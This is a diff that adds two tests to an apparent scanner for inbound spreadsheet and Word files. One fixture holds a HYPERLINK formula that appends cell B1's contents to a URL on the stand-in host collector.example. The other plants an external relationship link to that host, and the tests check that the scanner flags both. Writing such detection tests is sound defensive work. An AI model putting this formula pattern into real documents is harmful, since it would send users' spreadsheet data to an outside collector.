@@ -306,6 +306,26 @@ def test_hidden_rows_and_columns_are_hidden(rows: str, columns: str) -> None:
     assert not hidden(scan_inbound(shown))
 
 
+def test_a_formula_of_a_sheet_is_one_although_the_file_leaves_its_first_sign_out() -> None:
+    formula = '<c r="A1"><f>HYPERLINK("https://collector.example/?q="&amp;B1,"open")</f><v>open</v></c>'
+    data = archive({"xl/worksheets/sheet1.xml": sheet(f"<row>{formula}</row>")})
+    assert read(data)[0] == [('=HYPERLINK("https://collector.example/?q="&B1,"open")open', Channel.VISIBLE)]
+    assert "formula" in scan_inbound(data).codes
+    sums = archive({"xl/worksheets/sheet1.xml": sheet('<row><c r="A1"><f>SUM(B1:B9)</f><v>4</v></c></row>')})
+    assert "formula" not in scan_inbound(sums).codes
+
+
+@pytest.mark.parametrize("name", ["xl/worksheets/_rels/sheet1.xml.rels", "word/_rels/document.xml.rels", "_rels/.rels"])
+def test_where_a_file_leads_outside_is_read_and_its_inner_relations_are_not(name: str) -> None:
+    relations = (
+        '<Relationships><Relationship Id="r1" Target="https://collector.example/?q=1" TargetMode="External"/>'
+        '<Relationship Id="r2" Target="../media/image1.png"/></Relationships>'
+    )
+    found, left = read(document(f"<w:p>{run(HARMLESS)}</w:p>", **{name: relations}))
+    assert sorted(found) == [(HARMLESS, Channel.VISIBLE), ("https://collector.example/?q=1", Channel.METADATA)]
+    assert left == ""
+
+
 def test_a_shared_string_is_seen_where_a_cell_that_is_shown_has_it() -> None:
     numbered = '<c r="A{0}" t="s"><v>{1}</v></c>'
     rows = f"<row>{numbered.format(1, 0)}</row><row hidden='1'>{numbered.format(2, 1)}{numbered.format(2, 0)}</row>"
